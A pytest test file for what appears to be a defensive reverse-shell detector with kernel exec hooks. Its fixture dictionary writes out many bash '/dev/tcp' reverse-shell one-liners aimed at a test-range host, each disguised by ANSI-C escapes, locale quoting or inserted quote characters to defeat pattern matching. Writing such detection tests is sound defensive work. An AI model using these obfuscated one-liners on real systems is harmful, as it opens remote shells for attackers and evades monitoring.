# SPDX-License-Identifier: Apache-2.0
"""The argv anchors survive shell quoting (issue 17): a reverse-shell
one-liner whose "/dev/tcp" is written with ANSI-C escapes (`$'\\x2f'`,
octal `\\057`, `\\u002f`, `\\U0000002f`), locale quoting `$"..."`, or quote
characters inside the word still makes the kernel stop the shell at exec,
and the classifier, reading the words as the shell does, still finds it.
Benign shell strings without such quoting are not held."""
from __future__ import annotations

import itertools

import pytest

from guard.detect.classify.reverse_shell import classify_reverse_shell
from guard.detect.vocabulary import (ARGV_PAIR_ANCHORS, ARGV_QUOTED_ANCHORS, anchor_table,
                                     has_anchor)
from guard.kernel.abi import AnchorKind

HOST, PORT = "198.18.0.1", "4444"


def _hex(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


#: bash -c strings, as a caller that is not a shell (os.exec, subprocess) passes them
QUOTED = {
    "ansi-c hex": f"bash -i >& $'\\x2fdev\\x2ftcp\\x2f{HOST}\\x2f{PORT}' 0>&1",
    "ansi-c hex upper": f"bash -i >& $'\\x2Fdev\\x2Ftcp\\x2F{HOST}\\x2F{PORT}' 0>&1",
    "ansi-c octal": f"bash -i >& $'\\057dev\\057tcp\\057{HOST}\\057{PORT}' 0>&1",
    "ansi-c short octal": f"bash -i >& $'\\57dev\\57tcp\\057{HOST}\\057{PORT}' 0>&1",
    # bash and zsh keep an octal escape's low 8 bits: \564 is "t"
    "ansi-c wrapped octal": f"bash -i >& /dev/$'\\564'cp/{HOST}/{PORT} 0>&1",
    "ansi-c u": f"bash -i >& $'\\u002fdev\\u002ftcp\\u002f{HOST}\\u002f{PORT}' 0>&1",
    "ansi-c U": f"bash -i >& $'\\U0000002fdev\\U0000002ftcp\\U0000002f{HOST}\\U0000002f{PORT}' 0>&1",
    "ansi-c every byte": f"bash -i >& $'{_hex(f'/dev/tcp/{HOST}/{PORT}')}' 0>&1",
    "ansi-c udp": f"bash -i >& $'\\x2fdev\\x2fudp\\x2f{HOST}\\x2f{PORT}' 0>&1",
    "ansi-c exec fd": f"exec 5<>$'\\x2fdev\\x2ftcp\\x2f{HOST}\\x2f{PORT}'; bash <&5 >&5 2>&5",
    "locale": f'bash -i >& /dev/$"tcp"/{HOST}/{PORT} 0>&1',
    "locale whole": f'bash -i >& $"/dev/tcp/{HOST}/{PORT}" 0>&1',
    "single quotes inside": f"bash -i >& /dev/t'c'p/{HOST}/{PORT} 0>&1",
    "double quotes around": f'bash -i >& /dev/"tcp"/{HOST}/{PORT} 0>&1',
    "empty quotes": f"bash -i >& /dev/t''cp/{HOST}/{PORT} 0>&1",
    "backslash": f"bash -i >& /dev/t\\cp/{HOST}/{PORT} 0>&1",
    "quoted slash": f"bash -i >& /dev'/'tcp/{HOST}/{PORT} 0>&1",
}


def argv_bytes(script: str) -> bytes:
    """The argument area the kernel scans (NUL-separated)."""
    return b"\0".join(arg.encode() for arg in ("bash", "-c", script)) + b"\0"


@pytest.mark.parametrize("name", sorted(QUOTED))
def test_a_quoted_one_liner_is_held_at_exec_and_found(name):
    script = QUOTED[name]
    assert has_anchor(argv_bytes(script), AnchorKind.ARGV), name
    findings = classify_reverse_shell(["bash", "-c", script])
    assert [f.evidence.get("pattern") for f in findings] in (
        ["dev_tcp_shell"], ["dev_tcp_exec_fd"]), (name, findings)


@pytest.mark.parametrize("word", ["/tcp", "/udp"])
def test_every_way_of_putting_quotes_into_the_word_is_an_anchor(word):
    """Up to three quote characters put anywhere into "/tcp" after its
    slash: the window at the slash is always one of the anchors."""
    rest = word[1:]
    tried = 0
    for inserted in range(4):
        for quotes in itertools.product("'\"\\", repeat=inserted):
            for places in itertools.combinations_with_replacement(range(len(rest) + 1), inserted):
                text = list(rest)
                for quote, place in sorted(zip(quotes, places), key=lambda p: -p[1]):
                    text.insert(place, quote)
                quoted = ("/" + "".join(text)).encode()
                assert has_anchor(b"x >& /dev" + quoted + b"/h/1", AnchorKind.ARGV), quoted
                tried += 1
    assert tried == 1 + 3 * 4 + 9 * 10 + 27 * 20    # every placement was tried


def test_the_quoted_and_pair_anchors_are_in_the_kernel_table():
    table = anchor_table()
    for anchor in ARGV_QUOTED_ANCHORS:
        assert table[int.from_bytes(anchor, "little")] & AnchorKind.ARGV, anchor
    for pair in ARGV_PAIR_ANCHORS:
        assert table[int.from_bytes(b"\0\0" + pair, "little")] == AnchorKind.ARGV_PAIR
    assert len(table) <= 1024           # eg_anchors' max_entries (bpf/lib/anchors.h)


@pytest.mark.parametrize("script", [
    "ls -la /tmp", "cd /srv/app && make test", "grep -r 'TODO' src/ | wc -l",
    'echo "done: $HOME/build" > /dev/null 2>&1', "cp -r ./dist/. /var/www/html/",
    "python3 -m pytest tests/ -q", "tar czf /tmp/out.tgz -C /srv/app .",
])
def test_benign_shell_strings_are_not_held(script):
    assert not has_anchor(argv_bytes(script), AnchorKind.ARGV)
